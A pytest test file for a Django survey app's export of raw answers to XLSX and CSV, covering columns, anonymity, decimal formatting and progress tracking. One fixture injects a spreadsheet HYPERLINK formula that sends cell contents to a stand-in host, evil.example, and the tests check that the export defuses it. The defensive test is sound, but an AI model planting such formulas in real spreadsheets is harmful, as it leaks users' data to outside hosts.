"""The export of the raw answers: one row per response in a running number, no personal data, every
kind of question in its columns, formulas defused, progress written as it goes."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from zukunftswerkstatt.core.models import DocumentStatus
from zukunftswerkstatt.surveys import exports
from zukunftswerkstatt.surveys.models import Response, SurveyExport
from zukunftswerkstatt.surveys.services import response_submit

from .factories import full_values, option_id
from .test_results import answer

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def filled(survey, questions, staff_a, participant, town_a):
    """Three questionnaires: online with an account, on paper, by phone; the first one entered (a
    mistake) is removed again, so database ids and running numbers differ."""
    mistake = answer(survey, staff_a, full_values(questions), channel="paper")
    mistake.delete()
    values = full_values(questions)
    values[questions["long"].pk] = '=HYPERLINK("http://evil.example/?"&A1)'
    response_submit(
        survey=survey,
        values=values,
        channel="online",
        user=participant,
        town=town_a,
        age_group="30-44",
    )
    q = questions
    answer(
        survey,
        staff_a,
        {
            q["single"].pk: option_id(q["single"], "Eigentum"),
            q["scale"].pk: 2,
            q["car"].pk: option_id(q["car"], "Nein"),
        },
        channel="paper",
        age="65-79",
    )
    answer(survey, staff_a, full_values(questions), channel="phone")
    return survey


def build(survey, file_format: str) -> SurveyExport:
    row = SurveyExport.objects.create(survey=survey, file_format=file_format, language="en")
    exports.survey_export_make(row)
    row.refresh_from_db()
    assert row.status == DocumentStatus.DONE, row.error
    return row


def xlsx_sheets(row: SurveyExport) -> tuple[list[list], list[list]]:
    with row.file.open("rb") as handle:
        workbook = load_workbook(io.BytesIO(handle.read()), read_only=True)
    answers, about = workbook.worksheets
    return (
        [list(r) for r in answers.iter_rows(values_only=True)],
        [list(r) for r in about.iter_rows(values_only=True)],
    )


def test_xlsx_has_one_row_per_response_in_running_numbers_and_every_kind_in_its_columns(filled, questions):
    row = build(filled, "xlsx")
    rows, about = xlsx_sheets(row)
    header, *data = rows

    assert header[:6] == ["Number", "Channel", "Day", "Town", "Age group", "Paper number"]
    assert [r[0] for r in data] == [1, 2, 3]  # running numbers, not the database's ids
    assert data[0][1:2] == ["Online with an account"]
    assert data[0][3:5] == ["Auerbach/Vogtl.", "30 to 44"]
    assert data[1][5] == 2  # the paper number as entered (the first one was removed)
    columns = {name: index for index, name in enumerate(header)}
    first = data[0]
    assert first[columns["F1 Wie wohnen Sie?"]] == "Miete"
    assert first[columns["F2 Was fehlt Ihnen?: Ärzte"]] == 1
    assert first[columns["F2 Was fehlt Ihnen?: Cafés"]] == 0
    assert first[columns["F3 Ich lebe gern hier."]] == 4
    assert first[columns["F4 Haben Sie ein Auto?"]] == "Ja"
    assert first[columns["F5 Wie viele Kilometer fahren Sie am Tag?"]] == 12.5
    assert first[columns["F6 Ihr Lieblingsort?"]] == "Der Marktplatz"
    assert first[columns["F8 Was ist am wichtigsten?: Ärzte"]] == 1
    assert first[columns["F8 Was ist am wichtigsten?: Bus"]] == 2
    assert first[columns["F8 Was ist am wichtigsten?: Arbeit"]] is None  # not placed
    assert first[columns["F9 Wie sehr stimmen Sie zu?: Es ist sicher."]] == 5
    assert first[columns["F9 Wie sehr stimmen Sie zu?: Es ist sauber."]] is None
    # The paper form left the multiple choice out: empty, not 0; the number was not asked (no car).
    second = data[1]
    assert second[columns["F2 Was fehlt Ihnen?: Ärzte"]] is None
    assert second[columns["F5 Wie viele Kilometer fahren Sie am Tag?"]] is None
    assert second[columns["F1 Wie wohnen Sie?"]] == "Eigentum"
    # The part “Questions” explains every question column.
    assert about[0] == ["Column", "Question", "Kind of question", "Values"]
    assert [line[0] for line in about[1:]] == header[6:]
    scale = next(line for line in about if line[0] == "F3 Ich lebe gern hier.")
    assert "5 = stimme voll zu" in scale[3]


def test_export_holds_no_personal_data(filled, participant, staff_a):
    row = build(filled, "xlsx")
    rows, _about = xlsx_sheets(row)
    cells = {str(cell) for r in rows for cell in r if cell is not None}
    responses = Response.objects.filter(survey=filled)

    assert participant.email not in cells
    assert staff_a.email not in cells
    assert [r[0] for r in rows[1:]] == [1, 2, 3]
    assert list(responses.values_list("pk", flat=True)) != [1, 2, 3]  # the ids are not the numbers
    assert not any(token and token in cells for token in responses.values_list("guest_token", flat=True))
    assert all(participant.display_name not in cell for cell in cells)


def test_a_formula_in_a_text_is_written_as_text(filled):
    rows, _about = xlsx_sheets(build(filled, "xlsx"))
    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in rows[1]


def test_csv_zip_holds_the_answers_and_the_questions_with_decimal_commas(filled):
    row = build(filled, "csv")
    with row.file.open("rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    assert archive.namelist() == ["answers.csv", "questions.csv"]
    text = archive.read("answers.csv").decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    header = rows[0]
    assert len(rows) == 4
    first = dict(zip(header, rows[1], strict=True))
    assert first["Number"] == "1"
    assert first["F5 Wie viele Kilometer fahren Sie am Tag?"] == "12,5"
    assert first["F7 Was sollte sich ändern?"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    questions = list(
        csv.reader(io.StringIO(archive.read("questions.csv").decode("utf-8").lstrip("\ufeff")), delimiter=";")
    )
    assert questions[0] == ["Column", "Question", "Kind of question", "Values"]


def test_progress_is_written_every_few_rows_in_an_update_of_its_own(filled, monkeypatch, staff_a, questions):
    for _ in range(5):
        answer(filled, staff_a, full_values(questions), channel="phone")
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 2)
    seen = []
    original = exports._Progress.save

    def save(self):
        original(self)
        seen.append(SurveyExport.objects.get(pk=self.export.pk).rows_done)

    monkeypatch.setattr(exports._Progress, "save", save)
    row = build(filled, "xlsx")

    assert seen == [2, 4, 6, 8, 8]
    assert (row.rows_done, row.rows_total) == (8, 8)


def test_older_exports_are_pruned(filled):
    rows = [build(filled, "csv") for _ in range(exports.KEEP_EXPORTS + 1)]
    kept = SurveyExport.objects.filter(survey=filled, file_format="csv")
    assert kept.count() == exports.KEEP_EXPORTS
    assert rows[0].pk not in set(kept.values_list("pk", flat=True))


def test_numbers_keep_their_decimals():
    assert exports._plain(Decimal("12.500")) == 12.5
    assert exports._plain(Decimal("100.000")) == 100
    assert isinstance(exports._plain(Decimal("100.000")), int)
